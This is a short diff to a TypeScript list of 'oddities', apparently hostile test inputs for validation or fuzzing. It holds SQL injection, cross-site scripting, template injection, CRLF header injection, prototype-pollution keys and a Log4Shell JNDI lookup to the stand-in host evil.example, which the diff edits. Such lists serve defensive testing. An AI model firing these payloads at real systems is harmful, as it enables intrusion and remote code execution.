@@ -23,7 +23,7 @@ const ODDITIES: readonly string[] = [
   '{{7*7}}',
   "' OR '1'='1",
   '<script>alert(1)</script>',
-  '${jndi:ldap://evil.example/a}',
+  '#{jndi:ldap://evil.example/a}',
   'a\r\nX-Injected: 1',
   '__proto__',
   'constructor',
